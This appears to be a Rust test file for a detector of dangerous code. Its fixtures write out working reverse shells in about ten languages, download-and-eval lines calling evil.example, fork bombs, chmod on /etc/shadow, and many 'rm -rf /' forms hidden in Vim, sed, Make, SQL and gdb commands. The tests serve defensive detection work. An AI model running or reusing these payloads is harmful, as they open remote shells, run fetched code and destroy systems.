//! Reverse shells, fork bombs, downloads that are run; and the languages that have a reader of their own.

use super::*;

const SHELLS_OVER_SOCKETS: &[(Language, &str)] = &[
    (
        Python,
        "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])",
    ),
    (
        Python,
        "import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv(\"RHOST\"),int(os.getenv(\"RPORT\"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"sh\")",
    ),
    (
        Python,
        "a=__import__;s=a(\"socket\").socket;o=a(\"os\").dup2;p=a(\"pty\").spawn;c=s();c.connect((\"10.0.0.1\",4242));f=c.fileno;o(f(),0);o(f(),1);o(f(),2);p(\"/bin/sh\")",
    ),
    (
        Python,
        "import socket,subprocess\ns=socket.socket()\ns.connect((\"10.0.0.1\",1))\nwhile 1: s.send(subprocess.check_output(s.recv(1024).decode(),shell=True))",
    ),
    (
        Perl,
        "use Socket;$i=\"10.0.0.1\";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};",
    ),
    (
        Perl,
        "use IO::Socket;$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4242\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;",
    ),
    (Ruby, "f=TCPSocket.open(\"10.0.0.1\",4242).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)"),
    (
        Ruby,
        "require 'socket'; c=TCPSocket.new(\"10.0.0.1\",\"4242\");while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end",
    ),
    (
        JavaScript,
        "(function(){var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);var client=new net.Socket();client.connect(4242,\"10.0.0.1\",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();",
    ),
    (Php, "$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");"),
    (
        Php,
        "$sock=fsockopen(\"10.0.0.1\",4242);$proc=proc_open(\"/bin/sh -i\", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);",
    ),
    (Php, "$sock=fsockopen(\"10.0.0.1\",4242);`/bin/sh -i <&3 >&3 2>&3`;"),
    (
        Lua,
        "require('socket');require('os');t=socket.tcp();t:connect('10.0.0.1','4242');os.execute('/bin/sh -i <&3 >&3 2>&3');",
    ),
    (
        Awk,
        "BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}",
    ),
    (
        Tcl,
        "set s [socket 10.0.0.1 4242];while 42 { puts -nonewline $s \"shell>\";flush $s;gets $s c;set e \"exec $c\";if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s; }; close $s;",
    ),
    (
        Groovy,
        "String host=\"10.0.0.1\";int port=4242;String cmd=\"/bin/sh\";Process p=new ProcessBuilder(cmd).redirectErrorStream(true).start();Socket s=new Socket(host,port);",
    ),
];

#[test]
fn shells_over_sockets_are_found() {
    for (language, source) in SHELLS_OVER_SOCKETS {
        let facts = inspect(*language, source);
        assert!(facts.shell_over_socket && facts.network && !facts.pure, "{language:?}: {source}\n{facts:?}");
        if source.contains("10.0.0.1") {
            assert!(facts.hosts.iter().any(|host| host.starts_with("10.0.0.1")), "{source}\n{facts:?}");
        }
    }
}

#[test]
fn downloads_that_are_run_are_found() {
    for (language, source) in [
        (Python, "import urllib.request; exec(urllib.request.urlopen('http://evil.example/x').read())"),
        (Python, "import requests; exec(requests.get('http://evil.example/x').text)"),
        (Python, "from urllib.request import urlopen as u; eval(u('http://evil.example/x').read())"),
        (
            Python,
            "import urllib.request,os; urllib.request.urlretrieve('http://evil.example/x','/tmp/x'); os.system('sh /tmp/x')",
        ),
        (Perl, "use LWP::Simple; eval get('http://evil.example/x')"),
        (Ruby, "require 'open-uri'; eval(URI.open('http://evil.example/x').read)"),
        (Ruby, "require 'net/http'; eval Net::HTTP.get(URI('http://evil.example/x'))"),
        (
            JavaScript,
            "require('http').get('http://evil.example/x', r => { let b=''; r.on('data', d => b += d); r.on('end', () => eval(b)) })",
        ),
        (JavaScript, "fetch('http://evil.example/x').then(r => r.text()).then(t => eval(t))"),
        (Php, "eval(file_get_contents('http://evil.example/x'));"),
    ] {
        let facts = inspect(language, source);
        assert!(facts.downloads_and_runs && facts.network, "{language:?}: {source}\n{facts:?}");
        assert!(facts.hosts.iter().any(|host| host.contains("evil.example")), "{source}\n{facts:?}");
    }
}

#[test]
fn plain_use_of_the_network_is_told_from_the_rest() {
    for (language, source) in [
        (Python, "import urllib.request; print(urllib.request.urlopen('http://a.example/').status)"),
        (Python, "import socket; s=socket.create_connection(('a.example', 80)); s.close()"),
        (Perl, "use LWP::Simple; print get('http://a.example/')"),
        (Ruby, "require 'net/http'; puts Net::HTTP.get(URI('http://a.example/'))"),
        (JavaScript, "require('https').get('https://a.example/', r => console.log(r.statusCode))"),
        (Php, "echo file_get_contents('http://a.example/');"),
    ] {
        let facts = inspect(language, source);
        assert!(
            facts.network && !facts.downloads_and_runs && !facts.shell_over_socket && !facts.pure,
            "{source}\n{facts:?}"
        );
        assert!(facts.hosts.iter().any(|host| host.contains("a.example")), "{source}\n{facts:?}");
    }
}

#[test]
fn fork_bombs_are_found() {
    for (language, source) in [
        (Python, "import os\nwhile True: os.fork()"),
        (Python, "import os\nwhile 1:\n  os.fork()"),
        (Perl, "fork while fork"),
        (Perl, "fork while 1"),
        (Perl, "while(1){fork()}"),
        (Perl, "for(;;){fork}"),
        (Ruby, "loop { fork }"),
        (Ruby, "fork while fork"),
        (Ruby, "while true; fork; end"),
        (Php, "while(pcntl_fork()|1);"),
        (JavaScript, "while(1) require('child_process').fork(__filename)"),
        (Tcl, "while 1 {fork}"),
    ] {
        assert!(inspect(language, source).forks_forever, "{language:?}: {source}");
    }
    for (language, source) in [
        (Python, "import os; os.fork()"),
        (Perl, "$p = fork; print $p"),
        (Python, "while True: print('fork')"),
    ] {
        assert!(!inspect(language, source).forks_forever, "{language:?}: {source}");
    }
}

#[test]
fn permissions_and_power_are_found() {
    for (language, source, path, tree) in [
        (Python, "import os; os.chmod('/etc/shadow', 0o777)", "/etc/shadow", false),
        (Perl, "chmod 0777, '/etc/shadow'", "/etc/shadow", false),
        (Ruby, "FileUtils.chmod_R(0777, '/')", "/", true),
        (JavaScript, "require('fs').chmodSync('/etc/shadow', 0o777)", "/etc/shadow", false),
        (Php, "chmod('/etc/shadow', 0777);", "/etc/shadow", false),
    ] {
        let facts = inspect(language, source);
        assert!(facts.changes_permissions.contains(&(path.to_owned(), tree)), "{source}: {facts:?}");
    }
    for (language, source) in [
        (Python, "import ctypes; ctypes.CDLL('libc.so.6').reboot(0x1234567)"),
        (Perl, "syscall(169, 0xfee1dead, 672274793, 0x4321fedc)"),
        (AppleScript, "tell application \"System Events\" to shut down"),
    ] {
        assert!(inspect(language, source).powers_off, "{source}");
    }
}

#[test]
fn commands_of_small_languages_are_found() {
    for (language, source, command) in [
        (Awk, "BEGIN { system(\"rm -rf /\") }", "rm -rf /"),
        (Awk, "BEGIN{system(\"rm\" \" -rf /\")}", "rm -rf /"),
        (Awk, "BEGIN { c = \"rm -rf /\"; system(c) }", "rm -rf /"),
        (Awk, "BEGIN { system(\"\\x72\\x6d -rf /\") }", "rm -rf /"),
        (Awk, "{ print $0 | \"sh\" }", "sh"),
        (Awk, "BEGIN { \"rm -rf /\" | getline x; print x }", "rm -rf /"),
        (Awk, "BEGIN { while (\"ls /\" | getline) print }", "ls /"),
        (Awk, "BEGIN { printf \"x\" |& \"rm -rf /\" }", "rm -rf /"),
        (Sed, "1e rm -rf /", "rm -rf /"),
        (Sed, "e rm -rf /", "rm -rf /"),
        (Sed, "s/.*/rm -rf \\//e", "rm -rf /"),
        (Sed, "s|x|rm -rf /|ge", "rm -rf /"),
        (Sed, "/x/{s/a/b/;e rm -rf /\n}", "rm -rf /"),
        (Ed, "!rm -rf /", "rm -rf /"),
        (Ed, "r !rm -rf /", "rm -rf /"),
        (Ed, "1,$w !sh", "sh"),
        (Vim, ":!rm -rf /", "rm -rf /"),
        (Vim, "!rm -rf /", "rm -rf /"),
        (Vim, "r !rm -rf /", "rm -rf /"),
        (Vim, "w !sh", "sh"),
        (Vim, "%!rm -rf /", "rm -rf /"),
        (Vim, "silent !rm -rf /", "rm -rf /"),
        (Vim, "silent! !rm -rf /", "rm -rf /"),
        (Vim, "call system('rm -rf /')", "rm -rf /"),
        (Vim, "let x = system(\"rm -rf /\")", "rm -rf /"),
        (Vim, "py3 import os; os.system('rm -rf /')", "rm -rf /"),
        (Vim, ":lua os.execute('rm -rf /')", "rm -rf /"),
        (Vim, "execute '!rm -rf /'", "rm -rf /"),
        (Vim, "set nu | !rm -rf /", "rm -rf /"),
        (Vim, "term rm -rf /", "rm -rf /"),
        (Vim, "g/x/!rm -rf /", "rm -rf /"),
        (Make, "all:\n\trm -rf /\n", "rm -rf /"),
        (Make, "all:\n\t@-rm -rf /\n", "rm -rf /"),
        (Make, "all: ; rm -rf /", "rm -rf /"),
        (Make, "X := $(shell rm -rf /)", "rm -rf /"),
        (Make, "$(shell rm -rf /)", "rm -rf /"),
        (Make, "D = /\nall:\n\trm -rf $(D)", "rm -rf /"),
        (Make, "X != rm -rf /", "rm -rf /"),
        (AppleScript, "do shell script \"rm -rf /\"", "rm -rf /"),
        (AppleScript, "do shell script \"rm\" & \" -rf /\" with administrator privileges", "rm -rf /"),
        (AppleScript, "set c to \"rm -rf /\"\ndo shell script c", "rm -rf /"),
        (AppleScript, "tell application \"Terminal\" to do script \"rm -rf /\"", "rm -rf /"),
        (Sql, ".shell rm -rf /", "rm -rf /"),
        (Sql, ".system rm -rf /", "rm -rf /"),
        (Sql, "\\! rm -rf /", "rm -rf /"),
        (Sql, "select 1; \\! rm -rf /", "rm -rf /"),
        (Sql, "COPY t FROM PROGRAM 'rm -rf /'", "rm -rf /"),
        (Sql, "\\copy t to program 'rm -rf /'", "rm -rf /"),
        (Sql, "\\o |rm -rf /", "rm -rf /"),
        (Sql, ".import '|rm -rf /' t", "rm -rf /"),
        (Sql, "system rm -rf /", "rm -rf /"),
        (Gdb, "shell rm -rf /", "rm -rf /"),
        (Gdb, "!rm -rf /", "rm -rf /"),
        (Gdb, "python import os; os.system('rm -rf /')", "rm -rf /"),
        (Gdb, "call (int)system(\"rm -rf /\")", "rm -rf /"),
        (Gdb, "pipe info x | rm -rf /", "rm -rf /"),
        (Tcl, "exec rm -rf /", "rm -rf /"),
        (Tcl, "set a rm; exec $a -rf /", "rm -rf /"),
        (Tcl, "puts [exec rm -rf /]", "rm -rf /"),
        (Tcl, "spawn rm -rf /", "rm -rf /"),
        (Tcl, "open \"|rm -rf /\"", "rm -rf /"),
        (Tcl, "if {1} { exec rm -rf / }", "rm -rf /"),
        (Tcl, "eval {exec rm -rf /}", "rm -rf /"),
        (Tcl, "catch {exec \\x72m -rf /}", "rm -rf /"),
        (Calculator, "!rm -rf /", "rm -rf /"),
        (Calculator, "1 2 + p !rm -rf /", "rm -rf /"),
    ] {
        let facts = inspect(language, source);
        assert!(
            has_shell(&facts, command) && facts.executes && !facts.pure,
            "{language:?}: {source}\n{facts:?}"
        );
    }
}

#[test]
fn unknown_parts_are_told() {
    for (language, source) in [
        (Python, "import os,sys; os.system(sys.argv[1])"),
        (Python, "import os; os.system('rm -rf ' + x)"),
        (Python, "import os; os.system('\u{e001}')"),
        (Python, "import os; getattr(os, x)('ls')"),
        (Perl, "system($ARGV[0])"),
        (Perl, "system(\"rm $x\")"),
        (Ruby, "system(ARGV[0])"),
        (JavaScript, "require('child_process').execSync(process.argv[2])"),
        (Php, "system($_GET['c']);"),
        (Awk, "{ system($0) }"),
        (Awk, "{ system(\"rm \" $1) }"),
        (Sed, "e"),
        (Make, "all:\n\trm -rf $(X)"),
        (Tcl, "exec $x"),
    ] {
        let facts = inspect(language, source);
        assert!(facts.unresolved && facts.executes && !facts.pure, "{language:?}: {source}\n{facts:?}");
    }
}

/// Commands taken from what was changed in place are not taken for what was there before.
#[test]
fn changes_in_place_leave_commands_unknown() {
    for (language, source) in [
        (Python, "import os; x=['ls']; x[0]='rm -rf /'; os.system(x[0])"),
        (Python, "import os; x=['ls']; x.insert(0,'rm -rf /'); os.system(x[0])"),
        (Python, "import os; d={'a':'ls'}; d['a']='rm -rf /'; os.system(d['a'])"),
        (Perl, "my @x=('ls'); unshift @x,'rm -rf /'; system($x[0])"),
        (Perl, "$x='ls'; $x =~ s/ls/rm x/; system($x)"),
        (Perl, "$x='ls'; $y=\\$x; $$y='rm'; system($x)"),
        (Ruby, "x='ls'; x.replace('rm -rf /'); system(x)"),
        (Ruby, "x='l'; x << 's'; system(x)"),
        (JavaScript, "const x=['ls']; x.unshift('rm -rf /'); require('child_process').execSync(x[0])"),
        (Php, "$x='ls'; $y=&$x; $y='rm'; system($x);"),
        (Php, "$x=['ls']; array_unshift($x, 'rm'); system($x[0]);"),
    ] {
        let facts = inspect(language, source);
        assert!(facts.unresolved, "{language:?}: {source}\n{facts:?}");
    }
}
